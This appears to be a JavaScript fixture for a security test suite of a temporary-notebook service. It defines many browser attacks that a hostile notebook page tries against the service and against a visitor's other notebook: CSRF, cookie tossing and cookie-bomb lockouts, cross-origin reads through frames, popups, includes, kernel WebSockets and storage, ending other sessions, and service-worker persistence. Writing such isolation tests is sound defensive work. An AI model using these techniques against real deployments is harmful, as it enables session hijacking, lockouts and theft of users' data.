"use strict";
// What a hostile notebook's page tries. Served to the browser by the hostile notebook itself (notebook.py), so it runs in
// whatever origin that notebook has. Each attack returns what it got; nothing, or an exception, means that it failed.
//
// `known` is more than such a page would know: the address of another notebook of the same visitor (`prey`), but for its
// token. What an attack did at a server, the test asks that (`test_attacks.py`); then its return value does not matter.
/** @type {Record<string, (known: any) => Promise<any>>} */
const ATTACKS = {};
const pause = (/** @type {number} */ ms) => new Promise((done) => setTimeout(done, ms));
const WAIT = 500;
const within = (/** @type {Promise<any>} */ work, ms = 2000) => Promise.race([work, pause(ms)]);
const text = async (/** @type {string} */ url, init = {}) => {
  const answer = await fetch(url, { credentials: "include", cache: "no-store", ...init });
  return answer.type === "opaque" ? "" : answer.text();
};
const has = (/** @type {any} */ got, /** @type {string} */ word) => (String(got).includes(word) ? word : null);
const post = (/** @type {string} */ url, init = {}) => within(fetch(url, { method: "POST", credentials: "include", ...init }).catch(() => null));

const frame = async (/** @type {string} */ url) => {
  const one = document.createElement("iframe");
  one.src = url;
  const loaded = new Promise((done) => one.addEventListener("load", done));
  document.body.append(one);
  await within(loaded);
  await pause(100);
  return one;
};
const inFrame = async (/** @type {string} */ url) => {
  const one = await frame(url);
  try { return one.contentDocument?.documentElement.outerHTML ?? ""; } catch { return ""; } finally { one.remove(); }
};
// Whether a page is shown in a frame, though it cannot be read. One that may not be is an error page of the browser's, which has no frames,
// and answers nothing: the prey's and the service's pages say "here" to whoever frames them, if their scripts run.
const shown = async (/** @type {string} */ url) => {
  /** @type {string[]} */ const heard = [];
  const listen = (/** @type {MessageEvent} */ event) => heard.push(String(event.data));
  addEventListener("message", listen);
  const one = await frame(url);
  await pause(300);
  removeEventListener("message", listen);
  one.remove();
  return heard.find((word) => word.startsWith("here"));
};
const popup = async (/** @type {string} */ url) => {
  const one = window.open(url);
  await pause(WAIT);
  return one;
};
const element = (/** @type {string} */ tag, /** @type {Record<string, string>} */ values) => {
  const one = Object.assign(document.createElement(tag), values);
  const settled = new Promise((done) => {
    one.addEventListener("load", () => done("load"));
    one.addEventListener("error", () => done("error"));
  });
  document.head.append(one);
  return within(settled);
};
const form = async (/** @type {string} */ url, /** @type {Record<string, string>} */ fields) => {
  const target = document.createElement("iframe");
  target.name = "target" + Math.random();
  document.body.append(target);
  const one = Object.assign(document.createElement("form"), { method: "post", action: url, target: target.name });
  for (const [name, value] of Object.entries(fields)) one.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(one);
  one.submit();
  await pause(WAIT);
  one.remove();
  target.remove();
};
const socket = (/** @type {string} */ url) => within(new Promise((done) => {
  const one = new WebSocket(url.replace(/^http/, "ws"));
  one.onmessage = (event) => done(event.data);
  one.onerror = one.onclose = () => done("");
}));
const parents = () => {
  const labels = location.hostname.split(".");
  return labels.slice(0, -1).map((_, number) => labels.slice(number).join("."));
};

// --- a notebook in the visitor's name

ATTACKS.claim_with_the_api = ({ main }) => post(main + "api/spawn");
ATTACKS.claim_with_the_api_unread = ({ main }) => post(main + "api/spawn", { mode: "no-cors" });
ATTACKS.claim_with_a_ticket = ({ main }) => post(main + "api/tickets", { body: '{"fresh": true}', mode: "no-cors" });
ATTACKS.claim_with_a_json_ticket = ({ main }) => post(main + "api/tickets", { body: "{}", headers: { "Content-Type": "application/json" } });
ATTACKS.claim_with_a_form = ({ main }) => form(main + "spawn", { path: "lab", fresh: "1" });
ATTACKS.claim_with_a_form_in_a_window = async ({ main }) => {
  const one = Object.assign(document.createElement("form"), { method: "post", action: main + "spawn", target: "_blank" });
  one.append(Object.assign(document.createElement("input"), { name: "fresh", value: "1" }));
  document.body.append(one);
  one.submit();
  await pause(WAIT);
};
ATTACKS.claim_with_a_beacon = async ({ main }) => { navigator.sendBeacon(main + "api/tickets", '{"fresh": true}'); await pause(300); };
ATTACKS.claim_as_binder = ({ main }) => within(new Promise((done) => {
  const one = new EventSource(main + "build/gh/any/repository/HEAD", { withCredentials: true });
  one.onmessage = one.onerror = (event) => { one.close(); done(event); };
}));
ATTACKS.claim_as_binder_unread = ({ main }) => within(fetch(main + "build/gh/any/repository/HEAD", { mode: "no-cors", headers: { Accept: "text/event-stream" } }));
ATTACKS.claim_on_the_own_host = () => post("/api/spawn");
ATTACKS.claim_with_a_form_on_the_own_host = () => form("/spawn", { path: "lab", fresh: "1" });
ATTACKS.claim_on_a_neighbouring_name = async () => {
  const names = ["", "x.", "main.", "tmpnb-static."].map((name) => `${location.protocol}//${name}${location.host.replace(/^[^.]+\./, "")}/api/spawn`);
  for (const url of names) await post(url, { mode: "no-cors" });
};
ATTACKS.claim_inside_a_launch_frame = async ({ main }) => {
  const one = await frame(main + "spawn");
  await pause(WAIT);
  try { /** @type {any} */ (one.contentDocument)?.forms[0].submit(); await pause(WAIT); } finally { one.remove(); }
};

// --- the service's pages

ATTACKS.read_the_first_page = async ({ main, prey }) => has(await text(main), prey.id);
ATTACKS.read_the_launch_page = async ({ main }) => has(await text(main + "spawn"), "still running");
ATTACKS.read_the_first_page_on_the_own_host = async ({ prey }) => has(await text("/"), prey.id);
ATTACKS.read_the_first_page_in_a_frame = async ({ main, prey }) => has(await inFrame(main), prey.id);
ATTACKS.show_the_first_page_in_a_frame = ({ main }) => shown(main);
ATTACKS.read_the_first_page_in_a_window = async ({ main }) => {
  const one = await popup(main);
  try { return has(one?.document.body.innerHTML, "Go"); } finally { one?.close(); }
};
ATTACKS.lead_the_first_page_elsewhere = async ({ main }) => {
  const one = await popup(main);
  if (!one || one.closed) return null;
  one.location = "about:blank";
  await pause(300);
  const left = !one.closed;
  one.close();
  return left ? "led away" : null;
};
ATTACKS.count_the_frames_of_the_first_page = async ({ main }) => {
  const one = await popup(main);
  const counted = one && !one.closed ? `${one.length} frames` : null;
  one?.close();
  return counted;
};
ATTACKS.read_the_numbers = async ({ main }) => has(await text(main + "api/stats"), "capacity");
ATTACKS.embed_an_answer_of_the_api = async ({ main, prey }) =>
  (await element("link", { rel: "stylesheet", href: main + "api/sessions/" + prey.id })) === "load" ? "load" : null;
ATTACKS.reach_the_page_that_opened_it = async () => (window.opener && !window.opener.closed ? "opener" : null);
ATTACKS.know_where_its_visitor_came_from = async () => has(document.referrer, "code=") || has(document.referrer, "/user/");

// --- the service's cookies

ATTACKS.read_the_services_cookies = async () => has(document.cookie, "tmpnb-");
const toss = async (/** @type {any} */ known, /** @type {string[]} */ names) => {
  for (const name of names) {
    for (const domain of ["", ...parents().map((one) => "; domain=" + one)]) {
      for (const path of ["/", "/spawn", "/user/", new URL(known.prey.url).pathname]) {
        document.cookie = `${name}=${known.tossed}; path=${path}${domain}`;
        document.cookie = `${name}=${known.tossed}; secure; path=${path}${domain}`;
      }
    }
  }
};
ATTACKS.make_the_service_forget_its_visitor = (known) => toss(known, ["tmpnb-sessions", "__Host-tmpnb-sessions"]);
ATTACKS.lose_its_visitors_place_in_line = (known) => toss(known, ["tmpnb-line", "__Host-tmpnb-line"]);
ATTACKS.lock_its_visitor_out_of_the_service = async () => {
  for (const domain of ["", ...parents().map((one) => "; domain=" + one)]) {
    for (let number = 0; number < 60; number++) document.cookie = `overflow${number}=${"x".repeat(3000)}; path=/${domain}`;
  }
};
const overflow = (/** @type {string} */ path) => {
  for (const domain of ["", ...parents().map((one) => "; domain=" + one)]) {
    for (let number = 0; number < 15; number++) document.cookie = `overflow${number}=${"x".repeat(3000)}; path=${path}${domain}`;
  }
};
ATTACKS.make_the_other_notebooks_files_fail = async () => overflow("/static/");
ATTACKS.make_the_other_notebooks_requests_fail = async ({ prey }) => overflow(new URL(prey.url).pathname + "api/");
const pushOut = async () => {
  for (const domain of parents()) {
    for (let number = 0; number < 250; number++) document.cookie = `push${number}=1; path=/; secure; priority=high; domain=${domain}`;
  }
};
ATTACKS.push_out_the_services_cookies = pushOut;
ATTACKS.delete_the_services_cookies = async () => {
  for (const name of ["tmpnb-sessions", "__Host-tmpnb-sessions", "tmpnb-session", "__Host-tmpnb-session"]) {
    for (const domain of ["", ...parents().map((one) => "; domain=" + one)]) document.cookie = `${name}=; max-age=0; path=/${domain}`;
  }
};
ATTACKS.clear_the_sites_data_by_a_header = async () => void (await text("evil/clear"));
ATTACKS.set_cookies_for_others_by_a_header = async () => void (await text("evil/cookies"));

// --- the other notebook

ATTACKS.read_the_other_notebook = async ({ prey }) => has(await text(prey.url + "api/contents/secret"), prey.secret);
ATTACKS.read_the_other_notebook_by_the_main_host = async ({ prey }) => has(await text(prey.by_main + "api/contents/secret"), prey.secret);
ATTACKS.write_to_the_other_notebook = ({ prey }) =>
  post(prey.url + "api/contents/planted", { headers: { "X-XSRFToken": (document.cookie.match(/_xsrf=([^;]*)/) ?? [])[1] ?? "" } });
ATTACKS.write_to_the_other_notebook_unread = ({ prey }) => post(prey.url + "api/contents/planted", { mode: "no-cors", body: "x" });
ATTACKS.write_to_the_other_notebook_with_a_form = async (known) => {
  for (const domain of parents()) document.cookie = `_xsrf=known; path=/; domain=${domain}`;
  await form(known.prey.url + "api/contents/planted", { _xsrf: "known" });
  for (const domain of parents()) document.cookie = `_xsrf=; max-age=0; path=/; domain=${domain}`;
};
ATTACKS.write_to_the_other_notebook_by_the_main_host = ({ prey }) => post(prey.by_main + "api/contents/planted", { mode: "no-cors", body: "x" });
ATTACKS.read_the_other_notebook_in_a_frame = async ({ prey }) => has(await inFrame(prey.url + "lab"), prey.secret);
ATTACKS.show_the_other_notebook_in_a_frame = ({ prey }) => shown(prey.url + "lab");
ATTACKS.show_the_other_notebook_in_a_frame_by_the_main_host = ({ prey }) => shown(prey.by_main + "lab");
ATTACKS.read_the_other_notebook_in_a_window = async ({ prey }) => {
  const one = await popup(prey.url + "lab");
  try { return has(one?.document.documentElement.outerHTML, prey.secret); } finally { one?.close(); }
};
ATTACKS.run_code_in_the_other_notebooks_window = async ({ prey }) => {
  const one = await popup(prey.url + "lab");
  try { return has(/** @type {any} */ (one)?.eval("secret"), prey.secret); } finally { one?.close(); }
};
ATTACKS.lead_the_other_notebook_elsewhere = async ({ prey }) => {
  const one = await popup(prey.url + "lab");
  const held = one && !one.closed ? "held" : null;
  one?.close();
  return held;
};
ATTACKS.message_the_other_notebook = async ({ prey }) => {
  const heard = new Promise((done) => addEventListener("message", (event) => { if (String(event.data).startsWith("heard ")) done(event.data); }));
  const one = await popup(prey.url + "lab");
  one?.postMessage("speak", "*");
  const got = await within(heard, WAIT);
  one?.close();
  return got;
};
ATTACKS.find_the_other_notebooks_window_by_name = async () => {
  const one = window.open("", "the-other-notebook");
  const got = one && one.location.href !== "about:blank" ? one.location.href : null;
  if (!got) one?.close();
  return got;
};
ATTACKS.talk_to_the_other_notebooks_kernel = async ({ prey }) => has(await socket(prey.url + "api/kernels/1/channels"), prey.secret);
ATTACKS.talk_to_the_other_notebooks_kernel_by_the_main_host = async ({ prey }) => has(await socket(prey.by_main + "api/kernels/1/channels"), prey.secret);
ATTACKS.include_the_other_notebooks_script = async ({ prey }) => {
  await element("script", { src: prey.url + "files/secret.js" });
  return has(/** @type {any} */ (window).stolen, prey.secret);
};
ATTACKS.include_the_other_notebooks_script_by_the_main_host = async ({ prey }) => {
  /** @type {any} */ (window).stolen = "";
  await element("script", { src: prey.by_main + "files/secret.js" });
  return has(/** @type {any} */ (window).stolen, prey.secret);
};
ATTACKS.include_the_other_notebooks_style = async ({ prey }) => {
  await element("link", { rel: "stylesheet", href: prey.url + "files/secret.css" });
  return has(getComputedStyle(document.documentElement).getPropertyValue("--stolen"), prey.secret);
};
ATTACKS.measure_the_other_notebooks_picture = async ({ prey }) => {
  const one = new Image();
  const settled = new Promise((done) => { one.onload = one.onerror = done; });
  one.src = prey.url + "files/secret.svg";
  await within(settled);
  return one.naturalWidth === 321 ? "321 pixels" : null;
};
ATTACKS.read_the_other_notebook_on_the_host_of_shared_files = async ({ files, prey }) =>
  has(await text(new URL(files).origin + new URL(prey.url).pathname + "api/contents/secret"), prey.secret);
ATTACKS.enter_on_the_host_of_shared_files = async ({ files, prey }) => has(await text(new URL(files).origin + "/enter?code=", { mode: "no-cors" }), prey.id);
ATTACKS.run_a_script_beside_the_shared_files = ({ files }) => shown(files + "/static/lab/evil.svg");
ATTACKS.plant_a_shared_file = async ({ files }) => {
  const url = files + "/static/lab/main.js";
  for (const method of ["PUT", "POST", "PATCH", "DELETE"]) {
    await within(fetch(url, { method, body: method === "DELETE" ? null : "planted", mode: method === "POST" ? "no-cors" : "cors" }).catch(() => null));
  }
  // A browser keeps one answer of each address: neither a header nor a query may make another one of it.
  const kept = await (await fetch(url, { cache: "reload", headers: { Accept: "text/planted", "Accept-Language": "planted" } })).text();
  return kept.startsWith("globalThis.shared") && kept === await (await fetch(url)).text() ? null : kept;
};
ATTACKS.stay_as_a_service_worker_of_shared_files = async ({ files }) => {
  const made = await within(navigator.serviceWorker.register(new URL(files).pathname + "/static/lab/main.js"));
  return made ? "registered" : null;
};
ATTACKS.listen_to_the_other_notebooks_events = async ({ prey }) => has(await within(new Promise((done) => {
  const one = new EventSource(prey.url + "api/events", { withCredentials: true });
  one.onmessage = (event) => { one.close(); done(event.data); };
  one.onerror = () => { one.close(); done(""); };
})), prey.secret);
ATTACKS.import_the_other_notebooks_module = async ({ prey }) => has((await within(import(prey.url + "files/secret.mjs")))?.secret, prey.secret);
ATTACKS.start_a_worker_of_the_other_notebook = async ({ prey }) => {
  const one = new Worker(prey.url + "files/worker.js");
  const got = await within(new Promise((done) => { one.onmessage = (event) => done(event.data); one.onerror = () => done(""); }));
  one.terminate();
  return has(got, prey.secret);
};
ATTACKS.share_a_worker_with_the_other_notebook = async ({ prey }) => {
  const one = new SharedWorker(prey.url + "files/shared.js", "lab");
  one.port.start();
  return has(await within(new Promise((done) => { one.port.onmessage = (event) => done(event.data); one.onerror = () => done(""); })), prey.secret);
};
ATTACKS.make_the_other_notebook_refuse_its_visitor = (known) => toss(known, ["_xsrf", "login", "tmpnb-session", "__Host-tmpnb-session"]);
ATTACKS.lock_its_visitor_out_of_the_other_notebook = (known) => ATTACKS.lock_its_visitor_out_of_the_service(known);

ATTACKS.push_out_the_other_notebooks_cookies = pushOut;

// --- what browsers keep by origin

ATTACKS.read_the_other_notebooks_storage = async ({ prey }) => has(localStorage.getItem("secret"), prey.secret);
ATTACKS.read_the_other_notebooks_database = async ({ prey }) => has(await within(new Promise((done) => {
  const asked = indexedDB.open("lab");
  asked.onerror = () => done("");
  asked.onsuccess = () => {
    if (!asked.result.objectStoreNames.contains("kept")) return done("");
    const got = asked.result.transaction("kept").objectStore("kept").get("secret");
    got.onsuccess = () => done(got.result);
  };
})), prey.secret);
ATTACKS.read_the_other_notebooks_cache = async ({ prey }) => has(await (await caches.match(prey.url + "kept"))?.text(), prey.secret);
ATTACKS.hear_the_other_notebooks_broadcasts = async ({ prey }) => has(await within(new Promise((done) => {
  new BroadcastChannel("lab").onmessage = (event) => done(event.data);
})), prey.secret);
ATTACKS.see_the_other_notebooks_locks = async ({ prey }) => has(JSON.stringify(await navigator.locks.query()), prey.secret);
ATTACKS.read_what_the_service_stored = async () => has(JSON.stringify(localStorage) + JSON.stringify(sessionStorage), "of-the-service");
ATTACKS.disturb_who_waits_in_line = async () => void new BroadcastChannel("tmpnb-visit").postMessage("");
ATTACKS.stay_as_a_service_worker = async () => {
  const made = await within(navigator.serviceWorker.register("evil/worker.js", { scope: "./" }));
  return made ? "registered" : null;
};
ATTACKS.stay_as_the_origins_service_worker = async () => {
  const made = await within(navigator.serviceWorker.register("evil/worker.js", { scope: "/" }));
  return made ? "registered" : null;
};

// --- the other session, by the API

ATTACKS.see_the_other_session = async ({ main, prey }) => has(await text(main + "api/sessions/" + prey.id), "last_activity");
ATTACKS.see_the_other_session_on_the_own_host = async ({ prey }) => has(await text("/api/sessions/" + prey.id), "last_activity");
ATTACKS.end_the_other_session = ({ main, prey }) => within(fetch(main + "api/sessions/" + prey.id, { method: "DELETE", credentials: "include" }).catch(() => null));
ATTACKS.end_the_other_session_on_the_own_host = ({ prey }) => within(fetch("/api/sessions/" + prey.id, { method: "DELETE" }).catch(() => null));
ATTACKS.keep_the_other_session = async ({ main, prey }) => {
  const answer = await post(main + "api/sessions/" + prey.id + "/keep");
  return answer?.ok ? "kept" : null;
};
ATTACKS.open_the_other_notebook_on_the_own_host = async ({ prey }) => has(await text(`/user/${prey.id}/api/contents/secret`), prey.secret);
ATTACKS.take_a_way_in = async ({ prey }) => {
  const answer = await fetch(prey.by_main + "lab", { credentials: "include", redirect: "follow" });
  return has(answer.url, "/enter") || has(await answer.text(), prey.secret);
};
ATTACKS.enter_by_the_name_alone = async ({ prey }) => has(await text(new URL("/enter?code=", prey.url).href), prey.secret) || has(await text(new URL("/", prey.url).href), prey.id);

/** @param {string} name @param {any} known */
const attack = async (name, known) => {
  try {
    const got = await within(Promise.resolve(ATTACKS[name](known)), 6000);
    return typeof got === "string" ? got : ""; // an answer or an event says nothing: its server does
  } catch (error) {
    return "";
  }
};
